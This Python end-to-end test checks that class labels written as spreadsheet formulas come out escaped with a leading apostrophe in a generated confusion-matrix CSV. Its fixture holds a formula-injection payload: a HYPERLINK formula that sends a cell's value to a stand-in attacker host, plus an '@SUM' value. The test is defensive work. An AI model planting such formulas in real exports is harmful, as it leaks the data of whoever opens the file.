"""A class label that is a spreadsheet formula reaches the plot CSV as text (end to end)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from tests.e2e.conftest import REPO, mlproj_new

pytestmark = pytest.mark.e2e

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Yes")'


def test_formula_labels_are_neutralised_in_the_confusion_csv(tmp_path: Path) -> None:
    frame = pd.read_csv(REPO / "tests" / "data" / "churn.csv")
    frame["churned"] = frame["churned"].map(
        lambda v: FORMULA if str(v) in ("1", "True", "yes") else "@SUM(1)"
    )
    data = tmp_path / "formulas.csv"
    frame.to_csv(data, index=False)
    out = tmp_path / "out"
    out.mkdir()
    mlproj_new(out, "formulas", "--data", str(data), "--target", "churned")
    with (out / "formulas" / "plots" / "confusion.csv").open(newline="") as handle:
        cells = {cell for row in csv.DictReader(handle) for cell in row.values()}
    assert cells <= {"'" + FORMULA, "'@SUM(1)"}
    assert cells
